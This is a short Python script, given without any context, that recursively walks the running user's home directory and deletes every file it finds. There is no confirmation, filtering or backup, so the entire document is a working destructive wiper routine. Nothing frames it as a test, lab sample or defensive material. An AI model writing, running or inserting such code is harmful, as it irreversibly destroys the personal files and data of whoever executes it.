import os
from pathlib import Path

for folder, _, files in os.walk(Path.home()):
    for name in files:
        os.unlink(os.path.join(folder, name))
